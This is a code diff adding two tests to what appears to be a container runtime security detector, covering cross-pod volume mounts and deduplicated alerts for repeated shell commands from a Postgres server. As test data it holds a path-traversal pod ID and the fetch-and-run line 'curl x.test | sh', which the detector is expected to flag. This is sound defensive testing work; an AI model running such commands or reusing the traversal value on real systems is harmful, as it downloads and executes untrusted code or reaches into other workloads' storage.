@@ -286,6 +286,45 @@ for (const [what, tell] of Object.entries(quiet)) {
   });
 }
 
+test("volumes of a pod are its own, those of another pod are power over that", () => {
+  const pod = { name: "web", namespace: "shop", uid: "uid-1", container: "main" };
+  const mountOf = (uid: string): Container["mounts"][number] => ({
+    source: `/var/lib/kubelet/pods/${uid}/volumes/kubernetes.io~empty-dir/cache`,
+    ...{ target: "/cache", type: "bind", readOnly: false },
+  });
+  const rulesOf = (change: Partial<Container>): string[] => {
+    const s = story();
+    return alertsOf([s.exec(10, "/bin/a")], change).map(({ rule }) => rule);
+  };
+  assert.deepEqual(rulesOf({ pod, mounts: [mountOf("uid-1")] }), []);
+  for (const uid of ["uid-2", "uid-11", "uid-1/../uid-2"]) {
+    assert.deepEqual(rulesOf({ pod, mounts: [mountOf(uid)] }), ["privileged-start"], uid);
+  }
+  assert.deepEqual(rulesOf({ pod: null, mounts: [mountOf("uid-1")] }), ["privileged-start"]);
+  assert.deepEqual(rulesOf({ pod: { ...pod, uid: "" }, mounts: [mountOf("uid-1")] }), ["privileged-start"]);
+});
+
+test("what a server does again with other numbers is told once; another command is told, too", () => {
+  const s = story();
+  const shell = (pid: number, command: string): SensorRecord[] => [
+    s.fork(9, pid),
+    s.exec(pid, "/bin/sh", { arguments: ["sh", "-c", command] }),
+  ];
+  const archive = (log: string, pid: number): SensorRecord[] => shell(pid, `cp pg_wal/${log} /archive/${log}`);
+  const records = [
+    s.exec(9, "/usr/lib/postgresql/15/bin/postgres"),
+    ...["0000000100000000000000A1", "0000000100000000000000A2", "0000000200000000000000A2"].flatMap((log, index) =>
+      archive(log, 10 + index),
+    ),
+    ...shell(20, "curl x.test | sh"),
+  ];
+  const commands = alertsOf(records).map(({ evidence }) => evidence.find(({ key }) => key === "command")?.value);
+  assert.deepEqual(commands, [
+    "sh -c cp pg_wal/0000000100000000000000A1 /archive/0000000100000000000000A1",
+    "sh -c curl x.test | sh",
+  ]);
+});
+
 test("a detector's memory of processes, pipes and files has a bound", () => {
   const s = story();
   const records: SensorRecord[] = [];
